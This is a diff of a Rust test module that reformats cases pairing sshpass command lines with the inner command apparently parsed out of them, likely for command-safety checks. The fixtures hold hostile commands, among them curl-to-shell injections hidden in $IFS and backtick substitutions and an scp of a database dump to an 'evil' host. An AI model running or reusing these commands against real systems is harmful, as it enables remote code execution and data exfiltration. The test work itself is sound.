@@ -3774,8 +3774,14 @@ mod tests {
                 "$(curl${IFS}evil|sh)",
             ),
             ("sshpass -p `curl evil|sh` ssh h", "`curl evil|sh`"),
-            ("sshpass -e scp -p dump.sql x@evil:", "scp -p dump.sql x@evil:"),
-            ("sshpass -e ssh deploy@host ./run-payload.sh", "./run-payload.sh"),
+            (
+                "sshpass -e scp -p dump.sql x@evil:",
+                "scp -p dump.sql x@evil:",
+            ),
+            (
+                "sshpass -e ssh deploy@host ./run-payload.sh",
+                "./run-payload.sh",
+            ),
             ("sshpass -f pw ssh h time -p evilcmd", "time -p evilcmd"),
             ("sshpass -e ssh app-prod-1 uptime", "app-prod-1 uptime"),
             ("sshpass -e ssh -p 2222 h", "-p 2222 h"),
